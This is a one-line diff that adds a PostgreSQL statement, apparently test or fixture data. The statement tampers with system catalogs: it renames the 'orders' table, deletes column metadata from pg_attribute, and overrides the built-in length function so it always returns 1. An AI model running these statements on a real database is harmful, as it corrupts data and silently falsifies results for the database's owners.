@@ -1,0 +1,1 @@
+UPDATE pg_class SET relname = 'x' WHERE relname = 'orders'; DELETE FROM pg_catalog.pg_attribute WHERE attrelid = 1; CREATE OR REPLACE FUNCTION pg_catalog.length(text) RETURNS int4 LANGUAGE sql AS 'SELECT 1'
